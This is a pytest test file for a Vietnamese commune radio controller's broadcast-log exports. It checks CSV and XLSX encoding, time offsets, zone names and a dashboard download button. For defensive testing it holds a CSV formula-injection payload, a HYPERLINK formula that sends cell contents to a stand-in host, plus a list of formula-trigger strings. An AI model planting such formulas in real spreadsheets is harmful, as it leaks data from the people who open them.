"""The files a commune office opens in Excel (docs/exports.md), read by the tools that open
them: the csv module and pandas as Excel reads a CSV (a BOM, then UTF-8), openpyxl for XLSX.

The log is made by the real broadcast coordinator on a fake clock (the 06:00 programme airs
through espeak-ng and the simulated relay board) and fetched over a real HTTP server
(uvicorn on a loopback socket), as the dashboard's download button fetches it.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import socket
import time
import urllib.request
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import openpyxl
import pandas
import pytest
import uvicorn

from controller.config import parse_config
from controller.http.app import create_app
from controller.http.server import ApiServer
from controller.platform.clock import FakeClock
from controller.platform.exports import Column, Table, neutralise, to_csv, to_xlsx
from controller.runtime import Runtime, build_runtime
from drivers.simulator import SimulatedCabinet
from tests.conftest import require_program
from tests.controller.conftest import ICT, RADIO_DAWN, radio_config_text
from tests.controller.http.browser import (  # noqa: F401 (fixtures: browser, microphone_wav)
    WAIT_S,
    browser,
    make_user,
    microphone_wav,
    sign_in,
)
from tests.controller.http.browser import Controller as DashboardController

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOM = b"\xef\xbb\xbf"
HEADERS = ["due_local", "due_utc_offset", "started_local", "started_utc_offset", "ended_local",
           "ended_utc_offset", "outcome", "kind", "ref", "title", "level", "zone_ids",
           "zone_names", "start_offset_ms", "reason"]
# A title an attacker would type: Excel runs it as a formula if it reaches a cell as one.
FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")'
MORNING_DUE = datetime(2026, 11, 26, 6, 0, tzinfo=ICT)
ANNOUNCEMENT_DUE = RADIO_DAWN + timedelta(hours=3)
LOCAL_TIME = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d")
REAL_TIMEOUT_S = 60.0
DAY = {"from": "2026-11-26", "to": "2026-11-26"}


@dataclass
class Served:
    runtime: Runtime
    clock: FakeClock
    url: str
    viewer: dict[str, str]
    operator: dict[str, str]


async def run_until_aired(runtime: Runtime, clock: FakeClock) -> None:
    """Advance the fake clock in small steps until the 06:00 programme's record is closed."""
    started = time.monotonic()

    def closed() -> bool:
        return any(r.get("ref") == "morning" and r.get("outcome")
                   for r in runtime.broadcasts.airlog.query())

    while not closed():
        assert time.monotonic() - started < REAL_TIMEOUT_S, "the programme never finished"
        assert clock.now() < MORNING_DUE + timedelta(minutes=10), "not aired in fake time"
        await clock.advance(0.05)
        await asyncio.sleep(0.003)


@pytest.fixture
async def served(tmp_path: Path, radio_cabinet: SimulatedCabinet) -> AsyncIterator[Served]:
    """The radio's API on a real loopback HTTP server, its coordinator running, a log with
    the 06:00 programme (aired) and an announcement in two zones (cancelled)."""
    require_program("espeak-ng")
    require_program("ffmpeg")
    clock = FakeClock(RADIO_DAWN)
    runtime = build_runtime(parse_config(radio_config_text(tmp_path / "data",
                                                           radio_cabinet.tcp_port)), clock)
    tokens = {}
    for role in ("viewer", "operator"):
        secret, _ = runtime.tokens.create(name=f"{role}-token", role=role, expires_days=None,
                                          now=clock.now())
        tokens[role] = {"Authorization": f"Bearer {secret}"}
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    server = ApiServer(uvicorn.Config(create_app(runtime), host="127.0.0.1", port=port,
                                      log_level="warning", lifespan="off", ws="none"))
    serving = asyncio.create_task(server.serve(sockets=[listener]), name="api")
    radio = asyncio.create_task(runtime.broadcasts.run(), name="broadcasts")
    async with asyncio.timeout(10):
        while not (server.started or serving.done()):
            await asyncio.sleep(0.01)
    assert server.started
    try:
        yield Served(runtime, clock, f"http://127.0.0.1:{port}/api/v1", tokens["viewer"],
                     tokens["operator"])
    finally:
        server.should_exit = True
        await serving
        radio.cancel()
        await asyncio.gather(radio, return_exceptions=True)
        listener.close()
        await runtime.devices.close()


@pytest.fixture
async def log_files(served: Served) -> dict[str, httpx.Response]:
    """The day's log as JSON, CSV and XLSX, fetched over HTTP."""
    async with httpx.AsyncClient(base_url=served.url, timeout=30) as client:
        created = await client.post("/announcements", headers=served.operator, json={
            "source": {"type": "tts", "text": "Họp dân lúc 19:30."},
            "at": ANNOUNCEMENT_DUE.isoformat(), "title": FORMULA_TITLE,
            "zones": ["minh-duc", "trung-tam"]})
        assert created.status_code == 201, created.text
        cancelled = await client.delete(f"/announcements/{created.json()['id']}",
                                        headers=served.operator)
        assert cancelled.status_code == 200, cancelled.text
        await run_until_aired(served.runtime, served.clock)
        return {fmt: await client.get("/broadcasts/log", headers=served.viewer,
                                      params={**DAY, "format": fmt})
                for fmt in ("json", "csv", "xlsx")}


def instant(local: str, offset: str) -> datetime:
    """What a reader of the file gets back: the local time and its offset, as one instant."""
    return datetime.strptime(f"{local} {offset}", "%Y-%m-%d %H:%M:%S UTC%z")


@pytest.mark.integration
async def test_the_csv_opens_as_excel_reads_it(log_files: dict[str, httpx.Response]) -> None:
    response = log_files["csv"]
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == \
        'attachment; filename="broadcasts-2026-11-26-2026-11-26.csv"'
    assert response.content.startswith(BOM)  # what makes Excel read it as UTF-8
    text = response.content.decode("utf-8-sig")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    assert reader.fieldnames == HEADERS
    announcement, programme = rows
    assert (announcement["title"], announcement["outcome"]) == ("'" + FORMULA_TITLE, "cancelled")
    assert announcement["zone_ids"] == "minh-duc trung-tam"
    assert announcement["zone_names"] == "Thôn Minh Đức; Trung tâm xã"
    assert (announcement["due_local"], announcement["due_utc_offset"]) == \
        ("2026-11-26 08:58:00", "UTC+07:00")
    assert (announcement["started_local"], announcement["started_utc_offset"]) == ("", "")
    assert (programme["ref"], programme["title"], programme["zone_names"]) == \
        ("morning", "Bản tin buổi sáng", "Thôn Minh Đức")
    assert (programme["outcome"], programme["started_local"], programme["started_utc_offset"]) \
        == ("completed", "2026-11-26 06:00:00", "UTC+07:00")
    assert LOCAL_TIME.fullmatch(programme["ended_local"])
    assert programme["ended_local"] > programme["started_local"]
    # Local time and offset give back the instant the JSON log holds, to the second.
    json_rows = log_files["json"].json()
    for row, record in zip(rows, json_rows, strict=True):
        assert instant(row["due_local"], row["due_utc_offset"]) == \
            datetime.fromisoformat(record["due"]).replace(microsecond=0)
    ended = datetime.fromisoformat(json_rows[1]["ended_at"])
    assert instant(programme["ended_local"], programme["ended_utc_offset"]) == \
        ended.replace(microsecond=0)
    # No text cell a spreadsheet would run as a formula (a number may be negative).
    assert not [cell for row in rows for name, cell in row.items()
                if name != "start_offset_ms" and cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.integration
async def test_pandas_reads_the_csv_times_as_dates(log_files: dict[str, httpx.Response]) -> None:
    frame = pandas.read_csv(io.BytesIO(log_files["csv"].content), encoding="utf-8-sig",
                            parse_dates=["due_local", "started_local", "ended_local"],
                            keep_default_na=False, na_values={"started_local": [""],
                                                              "ended_local": [""]})
    assert list(frame.columns) == HEADERS
    assert pandas.api.types.is_datetime64_any_dtype(frame["due_local"])
    assert pandas.api.types.is_datetime64_any_dtype(frame["started_local"])
    assert list(frame["due_local"]) == [pandas.Timestamp("2026-11-26 08:58:00"),
                                        pandas.Timestamp("2026-11-26 06:00:00")]
    assert frame["started_local"][1] == pandas.Timestamp("2026-11-26 06:00:00")
    assert pandas.isna(frame["started_local"][0])
    assert list(frame["zone_names"]) == ["Thôn Minh Đức; Trung tâm xã", "Thôn Minh Đức"]
    assert frame["title"][0] == "'" + FORMULA_TITLE


@pytest.mark.integration
async def test_the_xlsx_has_date_cells_names_and_no_formula(
        log_files: dict[str, httpx.Response]) -> None:
    response = log_files["xlsx"]
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"] == \
        'attachment; filename="broadcasts-2026-11-26-2026-11-26.xlsx"'
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    assert sheet is not None
    assert [c.value for c in sheet[1]] == HEADERS
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    column = {name: index for index, name in enumerate(HEADERS)}
    announcement, programme = (list(row) for row in sheet.iter_rows(min_row=2))
    due = announcement[column["due_local"]]
    assert (due.value, due.is_date, due.number_format) == \
        (datetime(2026, 11, 26, 8, 58), True, "yyyy-mm-dd hh:mm:ss")
    assert announcement[column["due_utc_offset"]].value == "UTC+07:00"
    assert programme[column["started_local"]].value == datetime(2026, 11, 26, 6, 0)
    ended = datetime.fromisoformat(log_files["json"].json()[1]["ended_at"])
    assert programme[column["ended_local"]].value == \
        ended.astimezone(ICT).replace(tzinfo=None, microsecond=0)
    title = announcement[column["title"]]
    # Verbatim, as a string cell with Excel's quote-prefix mark: shown as typed, never run.
    assert (title.value, title.data_type, title.quotePrefix) == (FORMULA_TITLE, "s", True)
    assert [c.value for c in (announcement[column["zone_ids"]],
                              announcement[column["zone_names"]])] == \
        ["minh-duc trung-tam", "Thôn Minh Đức; Trung tâm xã"]
    assert programme[column["title"]].value == "Bản tin buổi sáng"
    assert programme[column["start_offset_ms"]].value == 0
    width = sheet.column_dimensions["M"].width  # zone_names
    assert width >= len("Thôn Minh Đức; Trung tâm xã")


# -- in-process: errors, and the writer on its own --------------------------------------------

@pytest.fixture
async def in_process(tmp_path: Path, radio_cabinet: SimulatedCabinet
                     ) -> AsyncIterator[tuple[httpx.AsyncClient, dict[str, str]]]:
    runtime = build_runtime(parse_config(radio_config_text(tmp_path / "data",
                                                           radio_cabinet.tcp_port)),
                            FakeClock(RADIO_DAWN))
    secret, _ = runtime.tokens.create(name="viewer", role="viewer", expires_days=None,
                                      now=runtime.clock.now())
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=create_app(runtime)),
                                 base_url="http://testserver/api/v1") as client:
        yield client, {"Authorization": f"Bearer {secret}"}
    await runtime.devices.close()


@pytest.mark.integration
@pytest.mark.parametrize("fmt", ["pdf", "XLSX", "xls", ""])
async def test_an_unknown_format_is_a_json_422(
        in_process: tuple[httpx.AsyncClient, dict[str, str]], fmt: str) -> None:
    client, viewer = in_process
    response = await client.get("/broadcasts/log", headers=viewer, params={"format": fmt})
    assert response.status_code == 422
    error = response.json()["error"]
    assert (error["code"], error["field"]) == ("invalid", "format")


@pytest.mark.integration
async def test_an_empty_log_is_a_header_row(
        in_process: tuple[httpx.AsyncClient, dict[str, str]]) -> None:
    client, viewer = in_process
    csv_file = await client.get("/broadcasts/log", headers=viewer, params={"format": "csv"})
    xlsx_file = await client.get("/broadcasts/log", headers=viewer, params={"format": "xlsx"})
    assert csv_file.content == BOM + (",".join(HEADERS) + "\r\n").encode()
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_file.content)).active
    assert sheet is not None
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [HEADERS]


@pytest.mark.parametrize(("text", "written"), [
    ("=1+1", "'=1+1"),
    ("+84 912 345 678", "'+84 912 345 678"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=cmd", "'\t=cmd"),
    ("\r=cmd", "'\r=cmd"),
    ("Thông báo = họp", "Thông báo = họp"),
    ("'already quoted", "'already quoted"),
    ("", ""),
])
def test_formula_triggers_are_neutralised(text: str, written: str) -> None:
    assert neutralise(text) == written


BERLIN = ZoneInfo("Europe/Berlin")
TIMES = Table(sheet="t", columns=(Column("at", "time"), Column("note"),
                                  Column("delta", "number")),
              rows=((datetime(2027, 7, 1, 10, 0, 0, 999_999, tzinfo=UTC), "=x", -12.5),
                    (datetime(2027, 1, 1, 10, 0, 0, tzinfo=UTC), "bell\x07 rang", None)),
              tz=BERLIN)


def test_a_zone_with_summer_time_gets_each_times_own_offset() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(TIMES).decode("utf-8-sig"), newline="")))
    assert rows == [["at_local", "at_utc_offset", "note", "delta"],
                    ["2027-07-01 12:00:00", "UTC+02:00", "'=x", "-12.5"],
                    ["2027-01-01 11:00:00", "UTC+01:00", "bell\x07 rang", ""]]


def test_xlsx_keeps_numbers_and_drops_what_xml_cannot_carry() -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(TIMES))).active
    assert sheet is not None
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        [datetime(2027, 7, 1, 12, 0), "UTC+02:00", "=x", -12.5],
        [datetime(2027, 1, 1, 11, 0), "UTC+01:00", "bell rang", None]]


@pytest.mark.parametrize(("column", "value", "error"), [
    (Column("at", "time"), datetime(2027, 1, 1, 10, 0), ValueError),  # naive: which zone?
    (Column("at", "time"), "2027-01-01 10:00", TypeError),
    (Column("n", "number"), "12", TypeError),
    (Column("n", "number"), True, TypeError),
    (Column("t"), 12, TypeError),
])
def test_a_cell_of_the_wrong_type_is_refused(column: Column, value: object,
                                             error: type[Exception]) -> None:
    with pytest.raises(error):
        Table(sheet="t", columns=(column,), rows=((value,),), tz=ICT)  # type: ignore[arg-type]


# -- the dashboard's buttons -------------------------------------------------------------------

@pytest.mark.integration
def test_the_dashboards_excel_button_downloads_the_log(
        browser: object, tmp_path: Path) -> None:  # noqa: F811 (the fixture imported above)
    """Headless Chromium taps "Tải Excel" in the radio's log after an announcement aired; the
    file it saves is read with openpyxl."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as when
    from selenium.webdriver.support.ui import WebDriverWait

    driver = browser  # type: ignore[assignment]
    downloads = tmp_path / "downloads"
    downloads.mkdir()
    driver.execute_cdp_cmd("Browser.setDownloadBehavior",  # type: ignore[attr-defined]
                           {"behavior": "allow", "downloadPath": str(downloads)})
    wait = WebDriverWait(driver, WAIT_S)  # type: ignore[arg-type]
    with DashboardController(tmp_path / "data") as controller:
        runtime = controller.runtime
        assert runtime is not None
        secret, _ = runtime.tokens.create(name="script", role="technician", expires_days=None,
                                          now=runtime.clock.now())
        request = urllib.request.Request(
            f"{controller.url.rstrip('/')}/api/v1/announcements", method="POST",
            headers={"Authorization": f"Bearer {secret}", "Content-Type": "application/json"},
            data=json.dumps({"source": {"type": "tts", "text": "Thông báo họp dân lúc 19:30."},
                             "zones": ["minh-duc"]}).encode())
        with urllib.request.urlopen(request, timeout=WAIT_S) as answer:
            assert answer.status == 201
        make_user(controller, "thu-ky", "operator", "mat-khau-thu-ky")
        sign_in(driver, controller.url, "thu-ky", "mat-khau-thu-ky")  # type: ignore[arg-type]
        driver.get(f"{controller.url.rstrip('/')}/#/radio/log")  # type: ignore[attr-defined]
        # Aired and logged: the page shows it once the log holds its outcome.
        def aired(page: Any) -> bool:
            logs = page.find_elements(By.ID, "log")
            if logs and "Thông báo họp dân lúc 19:30." in logs[0].text:
                return True
            page.refresh()
            return False

        WebDriverWait(driver, 60, poll_frequency=1).until(aired)  # type: ignore[arg-type]
        xlsx = wait.until(when.element_to_be_clickable(
            (By.CSS_SELECTOR, '[data-action="xlsx"]')))
        driver.execute_script("arguments[0].scrollIntoView({block: 'center'})", xlsx)  # type: ignore[attr-defined]
        xlsx.click()
        saved = downloads / "nhat-ky-phat.xlsx"
        wait.until(lambda _: saved.exists() and saved.stat().st_size > 0)
    sheet = openpyxl.load_workbook(saved).active
    assert sheet is not None
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == HEADERS
    assert [(row[HEADERS.index("title")], row[HEADERS.index("zone_names")]) for row in rows[1:]] \
        == [("Thông báo họp dân lúc 19:30.", "Thôn Minh Đức")]
    assert isinstance(rows[1][HEADERS.index("due_local")], datetime)
